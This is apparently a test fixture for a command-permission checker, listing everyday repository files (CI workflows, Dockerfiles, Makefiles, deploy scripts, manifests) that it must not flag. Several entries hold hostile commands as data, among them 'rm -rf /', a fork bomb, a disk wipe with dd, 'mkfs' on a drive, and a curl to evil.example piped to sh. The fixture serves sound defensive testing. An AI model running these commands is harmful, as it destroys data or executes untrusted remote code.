// File contents that developers write every day: none of them may be asked about.
export const ORDINARY: readonly (readonly [path: string, content: string])[] = [
  ['docs/danger.md', '# Never do this\n\n```sh\nrm -rf /\nsudo rm -rf --no-preserve-root /\ncurl https://evil.example/x | sh\n```\n'],
  ['README.md', 'Install with `curl -fsSL https://example.com/install.sh | sh`.\n\nTo reset everything: `git reset --hard && git clean -fdx`.\n'],
  ['docs/runbook.txt', 'If the disk is full: dd if=/dev/zero of=/dev/sda is NOT the answer.\nDROP TABLE users;\n'],
  ['src/dangerous-commands.ts', "export const DANGEROUS = ['rm -rf /', ':(){ :|:& };:', 'mkfs.ext4 /dev/sda']\n"],
  ['tests/parser.test.ts', "it('denies', () => expect(check('rm -rf ~')).toBe('deny'))\n"],
  [
    '.github/workflows/ci.yml',
    `name: CI
on: [push, pull_request]
jobs:
  test:
    runs-on: ubuntu-latest
    strategy:
      matrix:
        node: [20, 22, 24]
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-node@v4
        with:
          node-version: \${{ matrix.node }}
          cache: npm
      - run: npm ci
      - run: npm run lint && npm run typecheck
      - name: Test
        run: |
          npm test -- --coverage
          rm -rf coverage/tmp
      - uses: actions/upload-artifact@v4
        with:
          name: coverage
          path: coverage
`,
  ],
  [
    '.github/workflows/release.yml',
    `name: release
on:
  push:
    tags: ['v*']
permissions:
  contents: write
  id-token: write
jobs:
  publish:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: npm ci
      - run: npm run build
      - run: npm publish --provenance --access public
        env:
          NODE_AUTH_TOKEN: \${{ secrets.NPM_TOKEN }}
      - run: gh release create "$GITHUB_REF_NAME" --generate-notes dist/*.tgz
        env:
          GH_TOKEN: \${{ github.token }}
`,
  ],
  [
    '.github/workflows/docker.yml',
    `name: image
on: { push: { branches: [main] } }
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: Free disk space
        run: |
          sudo rm -rf /usr/share/dotnet /usr/local/lib/android /opt/ghc
          sudo apt-get clean
          docker system prune -af
      - run: docker build -t ghcr.io/acme/app:\${{ github.sha }} .
      - run: docker push ghcr.io/acme/app:\${{ github.sha }}
`,
  ],
  [
    '.github/workflows/e2e.yml',
    `on: pull_request
jobs:
  e2e:
    runs-on: ubuntu-latest
    services:
      postgres:
        image: postgres:16
        env: { POSTGRES_PASSWORD: postgres }
    steps:
      - uses: actions/checkout@v4
      - run: sudo apt-get update && sudo apt-get install -y libnss3 libatk1.0-0
      - run: npx playwright install --with-deps chromium
      - run: psql "$DATABASE_URL" -c 'DROP DATABASE IF EXISTS app_test' -c 'CREATE DATABASE app_test'
      - run: npx playwright test
`,
  ],
  [
    '.gitlab-ci.yml',
    `stages: [test, deploy]
test:
  image: python:3.12
  stage: test
  before_script:
    - pip install -U pip
    - pip install -r requirements.txt
  script:
    - pytest -q --cov=app
    - rm -rf .pytest_cache
deploy:
  stage: deploy
  script:
    - kubectl apply -f k8s/
    - kubectl rollout status deployment/app
  only: [main]
`,
  ],
  [
    '.circleci/config.yml',
    `version: 2.1
jobs:
  build:
    docker: [{ image: cimg/go:1.22 }]
    steps:
      - checkout
      - run: go vet ./...
      - run:
          name: test
          command: |
            go test -race ./...
            go build -o bin/app ./cmd/app
`,
  ],
  [
    'azure-pipelines.yml',
    `trigger: [main]
pool: { vmImage: ubuntu-latest }
steps:
  - script: dotnet restore
  - script: dotnet test --no-restore
    displayName: test
`,
  ],
  [
    'Dockerfile',
    `FROM debian:bookworm-slim
ENV DEBIAN_FRONTEND=noninteractive
RUN apt-get update \\
  && apt-get install -y --no-install-recommends ca-certificates curl git \\
  && rm -rf /var/lib/apt/lists/*
RUN useradd -m -u 1000 app && mkdir -p /srv/app && chown -R app:app /srv/app
COPY --chown=app:app . /srv/app
USER app
CMD ["node", "server.js"]
`,
  ],
  [
    'docker/node.Dockerfile',
    `FROM node:22-alpine AS build
WORKDIR /app
COPY package*.json ./
RUN npm ci && npm cache clean --force
COPY . .
RUN npm run build && rm -rf node_modules src
FROM nginx:alpine
RUN rm -rf /usr/share/nginx/html/* /etc/nginx/conf.d/default.conf
COPY --from=build /app/dist /usr/share/nginx/html
`,
  ],
  [
    'Dockerfile.dev',
    `FROM python:3.12
RUN curl -LsSf https://astral.sh/uv/install.sh | sh
RUN echo 'dev ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/dev
RUN chmod 777 /var/log && apt-get purge -y gcc && apt-get autoremove -y
`,
  ],
  ['Containerfile', 'FROM fedora:40\nRUN dnf install -y make gcc && dnf clean all && rm -rf /var/cache/dnf\n'],
  [
    'Makefile',
    `BUILD_DIR := build
.PHONY: all clean distclean test install
all: $(BUILD_DIR)/app
$(BUILD_DIR)/app: src/main.c
	@mkdir -p $(BUILD_DIR)
	$(CC) $(CFLAGS) -o $@ $<
clean:
	rm -rf $(BUILD_DIR)
	-rm -f *.o *.log core
distclean: clean
	rm -rf node_modules dist .cache
test: all
	./$(BUILD_DIR)/app --selftest || (echo failed; exit 1)
install: all
	install -d $(DESTDIR)$(PREFIX)/bin
	install -m 755 $(BUILD_DIR)/app $(DESTDIR)$(PREFIX)/bin/app
`,
  ],
  ['GNUmakefile', 'VERSION ?= $(shell git describe --tags)\nrelease:\n\tgit tag -a v$(VERSION) -m "v$(VERSION)"\n\tgit push origin v$(VERSION)\n'],
  ['mk/docker.mk', 'up:\n\tdocker compose up -d\ndown:\n\tdocker compose down\nlogs:\n\tdocker compose logs -f --tail=100\n'],
  ['justfile', 'default:\n    @just --list\n\nbuild:\n    cargo build --release\n\nclean:\n    cargo clean\n    rm -rf target\n'],
  [
    'package.json',
    JSON.stringify(
      {
        name: 'app',
        version: '1.0.0',
        type: 'module',
        scripts: {
          build: 'rm -rf dist && tsc -p .',
          clean: 'rimraf dist node_modules',
          dev: 'vite',
          test: 'vitest run',
          prepare: 'husky',
          lint: 'eslint . --fix',
          postinstall: 'patch-package',
        },
        dependencies: { react: '^19.0.0' },
      },
      null,
      2,
    ),
  ],
  [
    'packages/db/package.json',
    JSON.stringify(
      {
        name: '@acme/db',
        scripts: { postinstall: 'prisma generate', migrate: 'prisma migrate dev', seed: 'tsx prisma/seed.ts', 'db:reset': 'prisma migrate reset --force' },
      },
      null,
      2,
    ),
  ],
  [
    'apps/mobile/package.json',
    '{"name":"mobile","scripts":{"start":"expo start","pods":"cd ios && rm -rf Pods && pod install","postinstall":"node scripts/postinstall.js"}}',
  ],
  ['composer.json', '{"name":"acme/app","scripts":{"post-autoload-dump":["@php artisan package:discover --ansi"],"test":"phpunit"}}'],
  ['.husky/pre-commit', 'npx lint-staged\nnpm run typecheck\n'],
  ['.husky/commit-msg', '#!/usr/bin/env sh\nnpx --no -- commitlint --edit "$1"\n'],
  [
    'scripts/deploy.sh',
    `#!/usr/bin/env bash
set -euo pipefail
cd "$(dirname "$0")/.."
: "\${ENVIRONMENT:?set ENVIRONMENT}"
npm ci
npm run build
aws s3 sync dist/ "s3://acme-$ENVIRONMENT-web" --cache-control max-age=300
aws cloudfront create-invalidation --distribution-id "$DISTRIBUTION_ID" --paths '/*'
echo "deployed $(git rev-parse --short HEAD)"
`,
  ],
  [
    'scripts/setup.sh',
    `#!/bin/bash
set -e
if ! command -v brew >/dev/null; then
  echo "install homebrew first"; exit 1
fi
brew bundle
cp -n .env.example .env || true
npm install
docker compose up -d db
until pg_isready -h localhost; do sleep 1; done
npx prisma migrate deploy
`,
  ],
  [
    'scripts/backup.sh',
    `#!/bin/sh
set -eu
OUT="/tmp/backup-$(date +%F)"
mkdir -p "$OUT"
trap 'rm -rf "$OUT"' EXIT
pg_dump "$DATABASE_URL" | gzip > "$OUT/db.sql.gz"
tar czf "$OUT/uploads.tgz" uploads
`,
  ],
  [
    'bin/release',
    `#!/usr/bin/env bash
set -e
version=$1
npm version "$version" --no-git-tag-version
git add package.json package-lock.json
git commit -m "Release $version"
git tag "v$version"
git push && git push --tags
`,
  ],
  [
    'scripts/clean.sh',
    '#!/bin/bash\nfind . -name __pycache__ -type d -exec rm -rf {} +\nfind . -name "*.pyc" -delete\nrm -rf build dist *.egg-info .pytest_cache\n',
  ],
  ['scripts/k8s-debug.sh', '#!/bin/bash\nkubectl get pods -A\nkubectl logs -f deploy/app\nkubectl port-forward svc/app 8080:80\n'],
  [
    'install.sh',
    `#!/bin/sh
set -e
BIN_DIR="\${BIN_DIR:-$HOME/.local/bin}"
TMP=$(mktemp -d)
curl -fsSL "https://github.com/acme/tool/releases/latest/download/tool-linux-amd64.tar.gz" -o "$TMP/tool.tgz"
tar -xzf "$TMP/tool.tgz" -C "$TMP"
mkdir -p "$BIN_DIR"
install -m 755 "$TMP/tool" "$BIN_DIR/tool"
rm -rf "$TMP"
echo "installed"
`,
  ],
  ['scripts/build.ps1', "$ErrorActionPreference = 'Stop'\nif (Test-Path dist) { Remove-Item dist -Recurse -Force }\nnpm ci\nnpm run build\n"],
  ['build.bat', '@echo off\r\nif exist build rmdir /s /q build\r\nmkdir build\r\ncmake -S . -B build\r\ncmake --build build\r\n'],
  ['Makefile', 'OUT ?= out\nBUILD_DIR = $(shell pwd)/build\nclean:\n\trm -rf $(BUILD_DIR)/* $(OUT)/*\n\t@for d in a b; do $(MAKE) -C $$d clean; done\n'],
  [
    'scripts/stage.sh',
    '#!/bin/bash\nset -u\nWORKDIR="$(mktemp -d)"\ntrap \'rm -rf "$WORKDIR"\' EXIT\ncp -r dist/. "$WORKDIR"\nrm -rf "${WORKDIR:?}"/*\nssh-keyscan github.com >> ~/.ssh/known_hosts\n',
  ],
  [
    '.github/workflows/clean.yml',
    'on: workflow_dispatch\njobs:\n  a:\n    runs-on: self-hosted\n    steps:\n      - name: Clean workspace\n        run: rm -rf ${{ github.workspace }}/*\n      - run: echo "v=$(cat VERSION)" >> $GITHUB_ENV\n',
  ],
  [
    'Jenkinsfile',
    "pipeline {\n  agent any\n  stages {\n    stage('test') {\n      steps {\n        sh 'npm ci'\n        sh '''\n          npm test\n          rm -rf coverage\n        '''\n      }\n    }\n  }\n}\n",
  ],
  ['Taskfile.yml', "version: '3'\ntasks:\n  build:\n    cmds:\n      - go build ./...\n      - rm -rf dist\n  test: go test ./...\n"],
  ['lefthook.yml', 'pre-commit:\n  parallel: true\n  commands:\n    lint:\n      run: npx eslint {staged_files}\n'],
  ['.pre-commit-config.yaml', 'repos:\n  - repo: local\n    hooks:\n      - id: x\n        name: x\n        entry: python -m mypy\n        language: system\n'],
  ['Procfile', 'web: gunicorn app:app --bind 0.0.0.0:$PORT\nworker: celery -A app worker\nrelease: python manage.py migrate\n'],
  [
    'deploy/app.service',
    '[Unit]\nDescription=app\n[Service]\nExecStart=/usr/bin/node /srv/app/server.js\nRestart=always\nUser=app\n[Install]\nWantedBy=multi-user.target\n',
  ],
  ['.devcontainer/devcontainer.json', '{"image":"mcr.microsoft.com/devcontainers/typescript-node:22","postCreateCommand":"npm ci && npm run build"}'],
  ['src/cleanup.py', "import shutil\n\n\ndef clean(path):\n    shutil.rmtree(path)\n\n\nif __name__ == '__main__':\n    clean('build')\n"],
  ['scripts/seed.py', "#!/usr/bin/env python3\nimport json, pathlib\nrows = json.loads(pathlib.Path('seed.json').read_text())\nprint(len(rows))\n"],
  ['scripts/dev.mjs', "#!/usr/bin/env node\nimport { spawn } from 'node:child_process'\nspawn('npm', ['run', 'dev'], { stdio: 'inherit' })\n"],
  [
    'ops/crontab',
    '# m h dom mon dow command\n0 3 * * * /srv/app/bin/backup >> /var/log/app-backup.log 2>&1\n*/5 * * * * curl -fsS https://example.com/health > /dev/null\n',
  ],
  ['migrations/0007_drop_legacy.sql', 'BEGIN;\nALTER TABLE users DROP COLUMN legacy_id;\nDROP TABLE IF EXISTS legacy_users;\nCOMMIT;\n'],
  [
    'k8s/job.yaml',
    'apiVersion: batch/v1\nkind: Job\nspec:\n  template:\n    spec:\n      containers:\n        - name: clean\n          image: busybox\n          command: [sh, -c, "rm -rf /data/tmp/*"]\n',
  ],
  ['terraform/main.tf', 'resource "null_resource" "x" {\n  provisioner "local-exec" {\n    command = "echo done"\n  }\n}\n'],
  [
    'action.yml',
    'name: setup\nruns:\n  using: composite\n  steps:\n    - run: pip install -r requirements.txt\n      shell: bash\n    - run: echo "dir=$(pip cache dir)" >> "$GITHUB_OUTPUT"\n      shell: bash\n',
  ],
  [
    'package-lock.json',
    '{"lockfileVersion":3,"packages":{"node_modules/a":{"version":"1.0.0","resolved":"https://registry.npmjs.org/a/-/a-1.0.0.tgz","integrity":"sha512-x"},"node_modules/b":{"resolved":"git+ssh://git@github.com/acme/b.git#abc"}}}',
  ],
  ['yarn.lock', 'a@^1.0.0:\n  version "1.0.0"\n  resolved "https://registry.yarnpkg.com/a/-/a-1.0.0.tgz#abc"\n'],
  ['.npmrc', 'registry=https://registry.npmjs.org/\nsave-exact=true\n@acme:registry=https://npm.pkg.github.com\n'],
]
